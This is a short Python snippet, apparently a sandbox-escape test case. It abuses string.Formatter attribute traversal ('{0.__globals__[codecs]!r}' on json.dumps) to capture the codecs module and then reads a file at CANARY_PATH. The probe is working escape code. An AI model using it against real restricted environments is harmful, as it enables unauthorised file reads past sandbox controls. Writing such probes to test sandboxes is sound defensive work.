# what: takes an object in a formatter's conversion
import json
import string

found = []


class Formatter(string.Formatter):
    def convert_field(self, value, conversion):
        found.append(value)
        return value


Formatter().format("{0.__globals__[codecs]!r}", json.dumps)
found[0].open(CANARY_PATH).read()
